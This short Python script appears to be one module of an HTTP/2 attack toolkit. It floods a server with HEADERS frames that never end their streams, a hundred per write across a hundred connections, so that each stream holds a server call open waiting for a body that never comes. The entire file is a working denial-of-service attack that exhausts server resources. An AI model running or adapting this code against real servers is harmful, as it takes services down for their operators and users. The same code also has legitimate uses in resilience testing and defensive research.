"""HEADERS that never end their stream: each keeps a call waiting for its message."""
from attack_program import MATCH, program
from h2wire import END_HEADERS, HEADERS, frame, request_block

AT_ONCE = 100


def run(attack):
    headers = request_block(MATCH)

    def block(connection, _):
        return b"".join(frame(HEADERS, END_HEADERS, connection.stream(), headers) for _ in range(AT_ONCE))
    attack.flood(block, attack.options.count // AT_ONCE)


if __name__ == "__main__":
    program(__doc__, run, count=100_000, connections=100, megabytes=40)
